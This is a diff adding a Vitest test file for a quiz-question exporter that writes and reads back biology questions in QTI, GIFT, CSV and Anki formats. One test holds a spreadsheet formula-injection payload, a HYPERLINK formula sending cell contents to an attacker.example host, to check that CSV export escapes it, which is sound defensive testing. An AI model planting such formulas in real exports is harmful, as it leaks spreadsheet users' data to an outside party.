@@ -0,0 +1,100 @@
+import { describe, expect, it } from 'vitest';
+import { exportQuestions, parseQuestions, type ExportFormat } from '../lib/exporters';
+import type { Question } from '../tools/generate-questions-from-text-tool';
+
+const questions: Question[] = [
+  {
+    type: 'multiple_choice',
+    stem: 'Which organelle carries out photosynthesis? (choose one: "A" or <B>)',
+    options: ['Chloroplast', 'Mitochondrion', 'Nucleus & nucleolus', 'Ribosome, free'],
+    correctAnswer: 'Chloroplast',
+    referenceAnswer: 'Photosynthesis takes place in the chloroplasts.',
+    citations: [{ page: 1, quote: 'Photosynthesis takes place in the chloroplasts.', verified: true }],
+    bloomLevel: 'remember',
+    difficulty: 'easy',
+  },
+  {
+    type: 'short_answer',
+    stem: 'What does aerobic respiration require?',
+    options: [],
+    correctAnswer: 'Oxygen',
+    referenceAnswer: '',
+    citations: [],
+    bloomLevel: 'understand',
+    difficulty: 'medium',
+  },
+  {
+    type: 'essay',
+    stem: 'Compare photosynthesis and respiration.\nRefer to both organelles.',
+    options: [],
+    correctAnswer: 'Photosynthesis stores energy in glucose; respiration releases it as ATP.',
+    referenceAnswer: 'Chloroplasts capture light energy; mitochondria release it.',
+    citations: [
+      { page: 1, quote: 'Chlorophyll absorbs light energy from the sun.', verified: true },
+      { page: 2, quote: 'Respiration releases the energy stored in glucose.', verified: false },
+    ],
+    bloomLevel: 'analyze',
+    difficulty: 'hard',
+  },
+  {
+    type: 'application',
+    stem: 'A plant is kept in the dark for a week. Predict what happens to its glucose stores.',
+    options: [],
+    correctAnswer: 'They fall, because respiration continues without photosynthesis.',
+    referenceAnswer: '',
+    citations: [],
+    bloomLevel: 'apply',
+    difficulty: 'medium',
+  },
+];
+
+const formats: ExportFormat[] = ['qti', 'gift', 'csv', 'anki'];
+
+describe('exporters', () => {
+  it.each(formats)('%s exports read back to the same questions', format => {
+    const files = exportQuestions(questions, format, { title: 'Energy in Cells' });
+
+    expect(parseQuestions(format, files)).toEqual(questions);
+  });
+
+  it.each(formats)('%s exports keep the section of each question', format => {
+    const withSections = questions.map((question, index) => ({
+      ...question,
+      ...(index < 2 ? { section: index === 0 ? '1. Photosynthesis & Light' : 'Cellular "Respiration"' } : {}),
+    }));
+
+    const parsed = parseQuestions(format, exportQuestions(withSections, format));
+
+    expect(parsed.map(question => question.section)).toEqual([
+      '1. Photosynthesis & Light',
+      'Cellular "Respiration"',
+      undefined,
+      undefined,
+    ]);
+  });
+
+  it('prefixes CSV cells that a spreadsheet would run as a formula', () => {
+    const formulas: Question[] = [
+      {
+        ...questions[0],
+        stem: '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
+        options: ['+1', '-1', '@SUM(A1)', "'=already quoted"],
+        correctAnswer: '+1',
+        citations: [],
+      },
+    ];
+
+    const [file] = exportQuestions(formulas, 'csv');
+    const row = file.content.split('\r\n')[1];
+
+    expect(row.startsWith(`multiple_choice,"'=HYPERLINK(""http://attacker.example/?""&A1,""Click"")"`)).toBe(true);
+    expect(row).toContain(`"'+1\n-1\n@SUM(A1)\n'=already quoted",'+1,`);
+    expect(parseQuestions('csv', [file])).toEqual(formulas);
+  });
+
+  it('reports where an edited export is invalid', () => {
+    const csv = 'type,stem,citations\r\nshort_answer,What is ATP?,not json\r\n';
+
+    expect(() => parseQuestions('csv', csv)).toThrow('Invalid question at CSV row 2: citations');
+  });
+});